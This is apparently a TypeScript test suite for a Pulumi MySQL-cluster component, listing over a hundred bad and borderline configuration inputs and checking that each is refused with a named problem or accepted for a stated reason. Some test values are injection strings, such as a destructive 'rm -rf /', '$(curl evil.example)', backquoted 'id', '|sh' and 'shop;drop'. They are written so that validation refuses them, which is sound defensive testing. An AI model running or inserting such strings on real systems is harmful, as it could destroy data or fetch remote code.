// The bad-input matrix (issue 14): every named case is either refused with ONE
// problem naming the setting and saying what is accepted, or accepted for a
// stated reason, in which case its objects must also pass the API-server
// stand-in. Stack cases go through argsFromConfig with every key of the stack,
// as index.ts runs them.

import * as assert from "assert";
import { MySqlClusterArgs, MySqlClusterConfigError, resolveArgs } from "../../../components/mysql-cluster/args";
import { renderObjects } from "../../../components/mysql-cluster/render";
import { argsFromConfig } from "../../../components/mysql-cluster/stack-config";
import { apiViolationsOfAll } from "../../support/api-validation";

const DIGEST = `sha256:${"0123456789abcdef".repeat(4)}`;

interface Case {
  /** Component args (name "db" unless `name`), or stack config by full key ("mysql-cluster:replicas"). */
  args?: MySqlClusterArgs;
  name?: string;
  stack?: Record<string, string>;
  /** Refused: the one problem names this setting and matches `says`. */
  refuses?: string;
  says?: RegExp;
  /** Accepted, and why that is right. */
  accepts?: string;
}

const SPACES = /\(without leading or trailing spaces\)/;
const IMAGE = /an image reference \[registry\[:port\]\/\]name\[:tag\]\[@digest\]/;
const QUANTITY = /Kubernetes quantity of at least 1Mi and at most 1Ei/;
const RESERVED_USER = /other than the users the cluster and its probes use/;
const ONCE = /each key once/;
const SCHEDULE = /day of week 0-6 or SUN-SAT/;

const CASES: Record<string, Case> = {
  // Stack keys the program would silently ignore.
  "stack: replica (a near miss of replicas)": {
    stack: { "mysql-cluster:replica": "5" },
    refuses: "replica",
    says: /did you mean "replicas"\?/,
  },
  "stack: AppDatabase (wrong case)": {
    stack: { "mysql-cluster:AppDatabase": "shop" },
    refuses: "AppDatabase",
    says: /did you mean "appDatabase"\?/,
  },
  "stack: storagesize (lower case)": {
    stack: { "mysql-cluster:storagesize": "20Gi" },
    refuses: "storagesize",
    says: /did you mean "storageSize"\?/,
  },
  "stack: backupSchedul (a letter short)": {
    stack: { "mysql-cluster:backupSchedul": "@daily" },
    refuses: "backupSchedul",
    says: /did you mean "backupSchedule"\?/,
  },
  "stack: exporterimage": {
    stack: { "mysql-cluster:exporterimage": "x" },
    refuses: "exporterimage",
    says: /did you mean "exporterImage"\?/,
  },
  "stack: a key far from every setting": {
    stack: { "mysql-cluster:colour": "blue" },
    refuses: "colour",
    says: /not a setting of this stack \(the settings are declared in Pulumi.yaml/,
  },
  "stack: a setting under a misspelt project namespace": {
    stack: { "mysql:replicas": "5" },
    refuses: "mysql:replicas",
    says: /did you mean "mysql-cluster:replicas"\?/,
  },
  "stack: a key of a provider this program does not use": {
    stack: { "aws:region": "eu-west-1" },
    accepts:
      "another program's key: a Pulumi ESC environment the stack imports puts its whole pulumiConfig into every stack, and refusing it would block `pulumi up` there",
  },
  "stack: a setting under the project's name in other case": {
    stack: { "MySQL-Cluster:replicas": "5" },
    refuses: "MySQL-Cluster:replicas",
    says: /did you mean "mysql-cluster:replicas"\?/,
  },
  "stack: a setting under a misspelt project name": {
    stack: { "mysql-clustr:replica": "5" },
    refuses: "mysql-clustr:replica",
    says: /did you mean "mysql-cluster:replicas"\?/,
  },
  "stack: kubernetes:context": {
    stack: { "kubernetes:context": "prod" },
    accepts: "the Kubernetes provider's own setting",
  },
  "stack: pulumi:disable-default-providers": {
    stack: { "pulumi:disable-default-providers": "[]" },
    accepts: "the engine's own setting",
  },
  "stack: random: and tls: keys": {
    stack: { "random:x": "1", "tls:y": "2" },
    accepts: "the random and tls providers are used by this program",
  },
  "stack: clusterName with an underscore": {
    stack: { "mysql-cluster:clusterName": "my_db" },
    refuses: "clusterName",
    says: /a DNS label of at most 52 characters/,
  },
  "stack: clusterName of 53 characters": {
    stack: { "mysql-cluster:clusterName": "a".repeat(53) },
    refuses: "clusterName",
    says: /at most 52 characters/,
  },
  "stack: clusterName of 46 characters with backups": {
    stack: { "mysql-cluster:clusterName": "a".repeat(46), "mysql-cluster:backupSchedule": "@daily" },
    refuses: "clusterName",
    says: /with backupSchedule, a name of at most 45/,
  },
  'stack: replicas " 5 "': {
    stack: { "mysql-cluster:replicas": " 5 " },
    accepts: "a number: only the parsed 5 reaches the manifests",
  },
  'stack: requireTls " true "': {
    stack: { "mysql-cluster:requireTls": " true " },
    accepts: "a boolean: only the parsed true is used",
  },
  "stack: serviceMonitorLabels as k=v": {
    stack: {
      "mysql-cluster:serviceMonitor": "true",
      "mysql-cluster:serviceMonitorLabels": "release=kube-prometheus-stack",
    },
    accepts: "the stack form of the labels map",
  },
  "stack: serviceMonitorLabels without =": {
    stack: { "mysql-cluster:serviceMonitor": "true", "mysql-cluster:serviceMonitorLabels": "release" },
    refuses: "serviceMonitorLabels",
    says: /"key=value" pairs/,
  },

  // Quantities (apimachinery's grammar; nothing trimmed).
  "storageSize 1e10": {
    args: { storageSize: "1e10" },
    accepts: "a decimal exponent, which Kubernetes accepts (10 GB)",
  },
  "storageSize 1.5Gi": { args: { storageSize: "1.5Gi" }, accepts: "a fraction of a binary suffix" },
  "storageSize +10Gi": { args: { storageSize: "+10Gi" }, accepts: "the grammar's optional sign" },
  "storageSize 500G": { args: { storageSize: "500G" }, accepts: "a decimal suffix" },
  'storageSize "10Gi "': { args: { storageSize: "10Gi " }, refuses: "storageSize", says: SPACES },
  'storageSize " 10Gi"': { args: { storageSize: " 10Gi" }, refuses: "storageSize", says: SPACES },
  "storageSize 10GB": { args: { storageSize: "10GB" }, refuses: "storageSize", says: QUANTITY },
  "storageSize 10gi": { args: { storageSize: "10gi" }, refuses: "storageSize", says: QUANTITY },
  'storageSize "10 Gi"': { args: { storageSize: "10 Gi" }, refuses: "storageSize", says: QUANTITY },
  "storageSize 1E3Mi": { args: { storageSize: "1E3Mi" }, refuses: "storageSize", says: QUANTITY },
  "storageSize -10Gi": { args: { storageSize: "-10Gi" }, refuses: "storageSize", says: QUANTITY },
  "storageSize 2Ei": { args: { storageSize: "2Ei" }, refuses: "storageSize", says: QUANTITY },
  "storageSize 1e400": { args: { storageSize: "1e400" }, refuses: "storageSize", says: QUANTITY },
  "memoryLimit 99999999Ei": {
    args: { memoryLimit: "99999999Ei" },
    refuses: "memoryLimit",
    says: /at most 64Ti \(the buffer pool is half of it\)/,
  },
  "memoryLimit 65Ti": { args: { memoryLimit: "65Ti" }, refuses: "memoryLimit", says: /at most 64Ti/ },
  "memoryLimit 64Ti": {
    args: { memoryLimit: "64Ti" },
    accepts: "the documented bound: a 32Ti buffer pool, an integer",
  },
  "memoryLimit 4e9": { args: { memoryLimit: "4e9" }, accepts: "a decimal exponent (4 GB)" },
  'memoryLimit "1Gi\\n"': { args: { memoryLimit: "1Gi\n" }, refuses: "memoryLimit", says: SPACES },
  "memoryRequest 100Mi": { args: { memoryRequest: "100Mi" }, refuses: "memoryRequest", says: /at least 256Mi/ },
  "cpuRequest 0": { args: { cpuRequest: "0" }, refuses: "cpuRequest", says: /CPU quantity above zero/ },
  "cpuRequest 1e5": { args: { cpuRequest: "1e5" }, refuses: "cpuRequest", says: /at most 10000/ },
  "cpuRequest 0.25": { args: { cpuRequest: "0.25" }, accepts: "a quarter core" },
  "cpuLimit below cpuRequest": {
    args: { cpuRequest: "1", cpuLimit: "500m" },
    refuses: "cpuLimit",
    says: /at least cpuRequest/,
  },
  'backupStorageSize "50Gi "': { args: { backupStorageSize: "50Gi " }, refuses: "backupStorageSize", says: SPACES },
  "backupStorageSize 5e10": { args: { backupStorageSize: "5e10" }, accepts: "a decimal exponent" },

  // Image references (distribution/reference's grammar).
  "image with ;": { args: { image: "mysql:8.4;rm -rf /" }, refuses: "image", says: IMAGE },
  "image with $(...)": { args: { image: "$(curl evil.example)" }, refuses: "image", says: IMAGE },
  "image with a backquote": { args: { image: "mysql:8.4`id`" }, refuses: "image", says: IMAGE },
  "image with a double quote": { args: { image: 'mysql:8.4"' }, refuses: "image", says: IMAGE },
  "image with a single quote": { args: { image: "mysql:8.4'" }, refuses: "image", says: IMAGE },
  "image with a zero-width space": {
    args: { image: "mysql:8.4\u200b" },
    refuses: "image",
    says: /got "mysql:8\.4\\u200b"/,
  },
  "image with a no-break space": { args: { image: "mysql:8.4\u00a0" }, refuses: "image", says: IMAGE },
  "image with a trailing space": { args: { image: "mysql:8.4 " }, refuses: "image", says: SPACES },
  "image with upper case": { args: { image: "MySQL:8.4" }, refuses: "image", says: IMAGE },
  "image with an empty tag": { args: { image: "mysql:" }, refuses: "image", says: IMAGE },
  "image with a tag starting with -": { args: { image: "mysql:-8" }, refuses: "image", says: IMAGE },
  "image with a short digest": { args: { image: "mysql@sha256:abc" }, refuses: "image", says: IMAGE },
  // The reference grammar takes any algorithm and 32+ hex digits, but digest.Parse
  // (opencontainers/go-digest) then refuses them, and the kubelet with it: InvalidImageName.
  "image with a sha256 digest of 32 digits": {
    args: { image: `mysql@sha256:${"a".repeat(32)}` },
    refuses: "image",
    says: IMAGE,
  },
  "image with an upper-case sha256 digest": {
    args: { image: `mysql@sha256:${"A".repeat(64)}` },
    refuses: "image",
    says: IMAGE,
  },
  "image with an unknown digest algorithm": {
    args: { image: `mysql@md5:${"a".repeat(32)}` },
    refuses: "image",
    says: IMAGE,
  },
  "backupImage with a sha512 digest": {
    args: { backupImage: `percona/percona-xtrabackup@sha512:${"0".repeat(128)}` },
    accepts: "a sha512 digest, which go-digest accepts",
  },
  "image with a name of 256 characters": { args: { image: "a".repeat(256) }, refuses: "image", says: IMAGE },
  "image with a registry port and path": {
    args: { image: "registry.example.com:5000/team/mysql:8.4" },
    accepts: "domain:port/path:tag",
  },
  "image by digest": { args: { image: `mysql@${DIGEST}` }, accepts: "name@digest" },
  "image with tag and digest": { args: { image: `mysql:8.4@${DIGEST}` }, accepts: "name:tag@digest" },
  "image from an IPv6 registry": {
    args: { image: "[::1]:5000/mysql:8.4" },
    accepts: "the grammar's bracketed IPv6 host",
  },
  "backupImage with a newline": {
    args: { backupImage: "percona/percona-xtrabackup:8.4\n" },
    refuses: "backupImage",
    says: SPACES,
  },
  "exporterImage with a pipe": {
    args: { exporterImage: "prom/mysqld-exporter:v0.16.0|sh" },
    refuses: "exporterImage",
    says: IMAGE,
  },

  // Users and databases.
  "appUser exporter": { args: { appDatabase: "shop", appUser: "exporter" }, refuses: "appUser", says: RESERVED_USER },
  "appUser probe": { args: { appDatabase: "shop", appUser: "probe" }, refuses: "appUser", says: RESERVED_USER },
  "appUser root": { args: { appDatabase: "shop", appUser: "root" }, refuses: "appUser", says: RESERVED_USER },
  "appUser Replicator": {
    args: { appDatabase: "shop", appUser: "Replicator" },
    refuses: "appUser",
    says: RESERVED_USER,
  },
  "appUser public": { args: { appDatabase: "shop", appUser: "public" }, refuses: "appUser", says: RESERVED_USER },
  "appUser of 33 characters": {
    args: { appDatabase: "shop", appUser: "u".repeat(33) },
    refuses: "appUser",
    says: /1 to 32 letters/,
  },
  "appUser with a quote": {
    args: { appDatabase: "shop", appUser: "sh'op" },
    refuses: "appUser",
    says: /1 to 32 letters/,
  },
  "appUser shop": { args: { appDatabase: "shop", appUser: "shop" }, accepts: "an ordinary user name" },
  "appDatabase cluster_meta": {
    args: { appDatabase: "cluster_meta" },
    refuses: "appDatabase",
    says: /other than the system databases/,
  },
  "appDatabase with ;": { args: { appDatabase: "shop;drop" }, refuses: "appDatabase", says: /letters, digits or "_"/ },

  // Selectors: "k=v,..." in the stack, label maps in TypeScript.
  "stack: clientPodSelector with a key twice": {
    stack: { "mysql-cluster:clientPodSelector": "app=shop,app=web" },
    refuses: "clientPodSelector",
    says: ONCE,
  },
  "stack: clientNamespaceSelector with a key twice": {
    stack: { "mysql-cluster:clientNamespaceSelector": "team=a,team=b" },
    refuses: "clientNamespaceSelector",
    says: ONCE,
  },
  "stack: clientPodSelector with $(...)": {
    stack: { "mysql-cluster:clientPodSelector": "app=$(id)" },
    refuses: "clientPodSelector",
    says: /"key=value" pairs/,
  },
  "clientPodSelector with $(...)": {
    args: { clientPodSelector: { app: "$(id)" } },
    refuses: "clientPodSelector",
    says: /"key=value" pairs/,
  },
  "stack: clientPodSelector with a 64-character key": {
    stack: { "mysql-cluster:clientPodSelector": `${"k".repeat(64)}=x` },
    refuses: "clientPodSelector",
    says: /"key=value" pairs/,
  },
  "clientPodSelector with a 64-character key": {
    args: { clientPodSelector: { ["k".repeat(64)]: "x" } },
    refuses: "clientPodSelector",
    says: /"key=value" pairs/,
  },
  "clientPodSelector with a 254-character prefix": {
    args: { clientPodSelector: { [`${"p".repeat(254)}/x`]: "y" } },
    refuses: "clientPodSelector",
    says: /"key=value" pairs/,
  },
  "clientPodSelector empty": {
    args: { clientPodSelector: {} },
    refuses: "clientPodSelector",
    says: /"key=value" pairs/,
  },
  "stack: clientPodSelector with spaces after commas": {
    stack: { "mysql-cluster:clientPodSelector": "app=shop, tier=web" },
    accepts: "as in kubectl selectors: only the parsed keys and values reach the manifest",
  },
  "stack: clientPodSelector with a leading space": {
    stack: { "mysql-cluster:clientPodSelector": " app=shop" },
    refuses: "clientPodSelector",
    says: SPACES,
  },
  "clientPodSelector with a prefixed key": {
    args: { clientPodSelector: { "example.com/app": "shop" } },
    accepts: "a qualified label key",
  },
  "clientPodSelector as a string": {
    args: { clientPodSelector: "app=shop" as never },
    refuses: "clientPodSelector",
    says: /in TypeScript a map/,
  },
  "clientPodSelector without the NetworkPolicy": {
    args: { networkPolicy: false, clientPodSelector: { app: "shop" } },
    refuses: "clientPodSelector",
    says: /unset when networkPolicy is false/,
  },
  "stack: clientNamespaceSelector without the NetworkPolicy": {
    stack: { "mysql-cluster:networkPolicy": "false", "mysql-cluster:clientNamespaceSelector": "team=web" },
    refuses: "clientNamespaceSelector",
    says: /unset when networkPolicy is false/,
  },

  // Names and their lengths.
  "clusterDomain with a 64-character label": {
    args: { clusterDomain: `${"a".repeat(64)}.local` },
    refuses: "clusterDomain",
    says: /labels of at most 63 characters/,
  },
  "clusterDomain making pod names longer than 253": {
    name: "a".repeat(52),
    args: { namespace: "n".repeat(63), clusterDomain: `${"d".repeat(63)}.${"e".repeat(63)}` },
    refuses: "clusterDomain",
    says: /stay within 253 characters/,
  },
  "clusterDomain with a trailing dot": {
    args: { clusterDomain: "cluster.local." },
    refuses: "clusterDomain",
    says: /DNS domain/,
  },
  "clusterDomain with a trailing space": {
    args: { clusterDomain: "cluster.local " },
    refuses: "clusterDomain",
    says: SPACES,
  },
  "priorityClassName of 254 characters": {
    args: { priorityClassName: "p".repeat(254) },
    refuses: "priorityClassName",
    says: /at most 253 characters/,
  },
  "priorityClassName of 253 characters": {
    args: { priorityClassName: "p".repeat(253) },
    accepts: "the API server's limit for a PriorityClass name",
  },
  "priorityClassName system-cluster-critical": {
    args: { priorityClassName: "system-cluster-critical" },
    accepts: "a built-in PriorityClass",
  },
  "storageClass with a space": {
    args: { storageClass: "fast ssd" },
    refuses: "storageClass",
    says: /name of a StorageClass/,
  },
  "existingSecret of 254 characters": {
    args: { existingSecret: "s".repeat(254) },
    refuses: "existingSecret",
    says: /name of a Secret/,
  },
  "namespace of 64 characters": {
    args: { namespace: "n".repeat(64) },
    refuses: "namespace",
    says: /at most 63 characters/,
  },
  "tlsSecret with a trailing space": { args: { tlsSecret: "corp-tls " }, refuses: "tlsSecret", says: SPACES },

  // Settings that would silently do nothing together.
  "passwordRotation with existingSecret": {
    args: { existingSecret: "mine", passwordRotation: 1 },
    refuses: "passwordRotation",
    says: /0 with existingSecret/,
  },
  "passwordRotation 0 with existingSecret": {
    args: { existingSecret: "mine", passwordRotation: 0 },
    accepts: "0 rotates nothing",
  },
  "passwordRotation 2^60": {
    args: { passwordRotation: 2 ** 60 },
    refuses: "passwordRotation",
    says: /whole number from 0 up/,
  },
  "restoreFromClaim with 3 replicas": {
    args: { restoreFromClaim: "old-backups" },
    refuses: "restoreFromClaim",
    says: /replicas: 1 while restoring .*then unset restoreFromClaim and scale up/,
  },
  "restoreFromClaim with 1 replica": {
    args: { replicas: 1, restoreFromClaim: "old-backups" },
    accepts: "one pod mounts the claim",
  },
  "serviceMonitorLabels without serviceMonitor": {
    args: { serviceMonitorLabels: { release: "kps" } },
    refuses: "serviceMonitorLabels",
    says: /unset unless serviceMonitor is true/,
  },
  "serviceMonitorLabels with serviceMonitor": {
    args: { serviceMonitor: true, serviceMonitorLabels: { release: "kube-prometheus-stack" } },
    accepts: "what kube-prometheus-stack selects on",
  },
  "serviceMonitorLabels overriding the cluster's own label": {
    args: { serviceMonitor: true, serviceMonitorLabels: { "app.kubernetes.io/name": "x" } },
    refuses: "serviceMonitorLabels",
    says: /other than the cluster's own labels/,
  },
  "serviceMonitorLabels with a bad key": {
    args: { serviceMonitor: true, serviceMonitorLabels: { "bad key": "x" } },
    refuses: "serviceMonitorLabels",
    says: /"key=value" pairs/,
  },
  "serviceMonitorLabels with a 64-character value": {
    args: { serviceMonitor: true, serviceMonitorLabels: { release: "v".repeat(64) } },
    refuses: "serviceMonitorLabels",
    says: /"key=value" pairs/,
  },
  "serviceMonitorLabels as a string with a key twice": {
    args: { serviceMonitor: true, serviceMonitorLabels: "release=a,release=b" as never },
    refuses: "serviceMonitorLabels",
    says: ONCE,
  },

  // backupSchedule as the API server parses it (robfig/cron v3 ParseStandard).
  "backupSchedule day of week 7": { args: { backupSchedule: "0 3 * * 7" }, refuses: "backupSchedule", says: SCHEDULE },
  "backupSchedule day of week 5-7": {
    args: { backupSchedule: "0 3 * * 5-7" },
    refuses: "backupSchedule",
    says: SCHEDULE,
  },
  "backupSchedule hour 24": { args: { backupSchedule: "0 24 * * *" }, refuses: "backupSchedule", says: SCHEDULE },
  "backupSchedule step 0": { args: { backupSchedule: "*/0 * * * *" }, refuses: "backupSchedule", says: SCHEDULE },
  "backupSchedule CRON_TZ=": {
    args: { backupSchedule: "CRON_TZ=UTC 0 3 * * *" },
    refuses: "backupSchedule",
    says: /no TZ= prefix/,
  },
  "backupSchedule TZ=": {
    args: { backupSchedule: "TZ=Europe/Berlin 0 3 * * *" },
    refuses: "backupSchedule",
    says: /no TZ= prefix/,
  },
  "backupSchedule @every 1h": {
    args: { backupSchedule: "@every 1h" },
    refuses: "backupSchedule",
    says: /@hourly\/@daily/,
  },
  "backupSchedule with a trailing space": {
    args: { backupSchedule: "0 3 * * * " },
    refuses: "backupSchedule",
    says: SPACES,
  },
  "backupSchedule over two lines": {
    args: { backupSchedule: "0 3 * * *\n0 4 * * *" },
    refuses: "backupSchedule",
    says: SCHEDULE,
  },
  "backupSchedule SUN": { args: { backupSchedule: "0 3 * * SUN" }, accepts: "a day name" },
  "backupSchedule sun-sat": { args: { backupSchedule: "0 3 * * sun-sat" }, accepts: "names in any case, in a range" },
  "backupSchedule ? for day of month": { args: { backupSchedule: "0 3 ? * *" }, accepts: "? means * in robfig/cron" },
  "backupSchedule day of week 0": { args: { backupSchedule: "0 3 * * 0" }, accepts: "Sunday is 0" },
  "backupSchedule @midnight": { args: { backupSchedule: "@midnight" }, accepts: "a descriptor Kubernetes documents" },
  "backupSchedule 31 February": {
    args: { backupSchedule: "0 3 31 2 *" },
    accepts: "every field is in range, so the API server accepts it (it never fires)",
  },

  // Other settings.
  "stack: tolerations with $(...) in a value": {
    stack: { "mysql-cluster:tolerations": '[{"key":"a","operator":"Equal","value":"$(id)"}]' },
    refuses: "tolerations",
    says: /JSON array of tolerations/,
  },
  "tolerations with $(...) in a value": {
    args: { tolerations: [{ key: "a", operator: "Equal", value: "$(id)" }] },
    refuses: "tolerations",
    says: /JSON array of tolerations/,
  },
  // pkg/apis/core/validation ValidateTolerations: "case core.TolerationOpEqual, \"\"" (empty operator means Equal).
  "tolerations with an empty operator": {
    args: { tolerations: [{ key: "dedicated", operator: "", value: "db", effect: "NoSchedule" }] },
    accepts: "the API server reads an empty operator as Equal",
  },
  "tolerations with an empty operator and no key": {
    args: { tolerations: [{ operator: "", effect: "NoSchedule" }] },
    refuses: "tolerations",
    says: /JSON array of tolerations/,
  },
  'restoreBackup "latest "': {
    args: { replicas: 1, restoreFromClaim: "old-backups", restoreBackup: "latest " },
    refuses: "restoreBackup",
    says: SPACES,
  },
  "flavor MySQL": { args: { flavor: "MySQL" as never }, refuses: "flavor", says: /"mysql", "mariadb"/ },
  "storageAccessMode ReadWriteMany": {
    args: { storageAccessMode: "ReadWriteMany" as never },
    refuses: "storageAccessMode",
    says: /"ReadWriteOnce" or "ReadWriteOncePod"/,
  },
  "replicas 100": { args: { replicas: 100 }, refuses: "replicas", says: /from 1 to 99/ },
};

/** The settings the stack (with every key) or resolveArgs accepts, or the MySqlClusterConfigError. */
function attempt(c: Case): { error?: MySqlClusterConfigError; objects?: object[] } {
  try {
    if (c.stack) {
      const { name, args } = argsFromConfig((key) => c.stack![`mysql-cluster:${key}`], Object.keys(c.stack));
      return { objects: renderObjects(resolveArgs(name, args)) };
    }
    return { objects: renderObjects(resolveArgs(c.name ?? "db", c.args ?? {})) };
  } catch (error) {
    if (error instanceof MySqlClusterConfigError) return { error };
    throw error;
  }
}

describe("the bad-input matrix", function () {
  it("holds at least 100 named cases, each refused naming a setting or accepted with a reason", function () {
    assert.ok(Object.keys(CASES).length >= 100, `${Object.keys(CASES).length} cases`);
    for (const [what, c] of Object.entries(CASES))
      assert.ok((c.refuses !== undefined && c.says !== undefined) !== (c.accepts !== undefined), what);
  });

  it("writes the buffer pool to server.cnf as a whole number of bytes, never with an exponent, for every accepted memoryLimit form up to the 64Ti bound", function () {
    for (const memoryLimit of ["64Ti", "4e9", "1.5Gi", "256Mi", "1000000000000m", "70368744177664", "+2Gi"]) {
      const configMap = (
        renderObjects(resolveArgs("db", { memoryRequest: "256Mi", memoryLimit })) as {
          kind: string;
          metadata: { name: string };
          data?: Record<string, string>;
        }[]
      ).find((o) => o.kind === "ConfigMap" && o.metadata.name.startsWith("db-config-"))!;
      assert.match(configMap.data!["server.cnf"], /^innodb_buffer_pool_size = [1-9][0-9]*$/m, memoryLimit);
    }
  });

  for (const [what, c] of Object.entries(CASES)) {
    if (c.refuses !== undefined) {
      it(`refuses ${what}, naming "${c.refuses}" and what it accepts`, function () {
        const { error } = attempt(c);
        assert.ok(error, "accepted");
        assert.strictEqual(error.problems.length, 1, error.message);
        assert.ok(error.problems[0].startsWith(`setting "${c.refuses}"`), error.problems[0]);
        assert.match(error.problems[0], c.says!);
      });
    } else {
      it(`accepts ${what}: ${c.accepts}; its objects pass the API server's validation`, function () {
        const { error, objects } = attempt(c);
        assert.ok(!error, error?.message);
        assert.deepStrictEqual(apiViolationsOfAll(objects!), []);
      });
    }
  }
});
